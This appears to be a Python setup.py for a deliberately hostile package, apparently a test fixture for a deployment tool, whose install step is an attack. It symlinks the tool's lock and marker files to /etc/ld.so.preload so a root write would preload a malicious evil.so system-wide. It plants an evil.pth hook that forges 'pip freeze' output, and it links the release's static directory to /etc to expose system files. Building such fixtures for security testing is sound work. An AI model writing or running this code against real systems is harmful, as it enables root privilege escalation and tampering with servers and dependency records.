"""A package that does what it can, while it is installed, to have root write, read and publish for it."""

import os
import sys
import sysconfig

from setuptools import setup

# Whoever writes there has code of his own run by every program that root starts.
PRELOAD = "/etc/ld.so.preload"
RELEASE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
VERSIONS = "x==1:/srv/flask/hostile/shared/evil.so"


def link(target: str, path: str) -> None:
    if not os.path.lexists(path):
        os.symlink(target, path)


for mark in ("requirements.lock", ".flaskops-complete"):
    link(PRELOAD, f"{sys.prefix}/{mark}")
    link(PRELOAD, f"{sys.prefix}/.{mark}.partial")

# Every start of the virtualenv's interpreter runs this, also where it is isolated.
with open(f"{sysconfig.get_path('purelib')}/evil.pth", "w") as file:
    file.write(f"import sys; 'freeze' in open('/proc/self/cmdline').read() and print({VERSIONS!r})\n")

if not os.path.islink(f"{RELEASE}/static"):
    os.rename(f"{RELEASE}/static", f"{RELEASE}/aside")
link("/etc", f"{RELEASE}/static")

setup(name="hostile-local", version="1.0", py_modules=[])
